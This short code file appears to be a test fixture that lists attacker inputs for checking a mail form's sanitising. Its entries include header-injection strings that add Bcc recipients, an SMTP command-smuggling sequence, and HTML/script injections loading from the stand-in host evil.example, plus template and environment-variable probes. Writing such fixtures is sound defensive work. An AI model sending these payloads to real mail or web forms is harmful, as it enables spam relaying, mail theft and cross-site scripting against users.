const thief = 'thief@evil.example'

/** What an attacker types to send a mail elsewhere, or to make it show or load what is not ours. */
export const attacks = [
  `x\r\nBcc: ${thief}`,
  `x\nCc: ${thief}\n\nbody`,
  `x\r\n.\r\nMAIL FROM:<a@evil.example>\r\nRCPT TO:<${thief}>\r\nDATA\r\n`,
  `${thief}, "x" <thief2@evil.example>`,
  `a@b.in,${thief}`,
  `a@b.in>\r\nTo: <${thief}`,
  `"a\r\nBcc: ${thief}"@b.in`,
  `=?utf-8?Q?x=0D=0ABcc:_${thief}?=`,
  '<script src="https://evil.example/x.js"></script>',
  '"><img src=https://evil.example/x.png onerror=alert(1)>',
  '<a href="https://evil.example">Click</a></td></table><style>*{display:none}</style>',
  `\u2028Bcc: ${thief}\u0085x`,
  `\u2028Bcc: ${thief}\u0000\u0085x`,
  '{{7*7}} ${process.env.PATH} %0d%0aBcc:x',
]
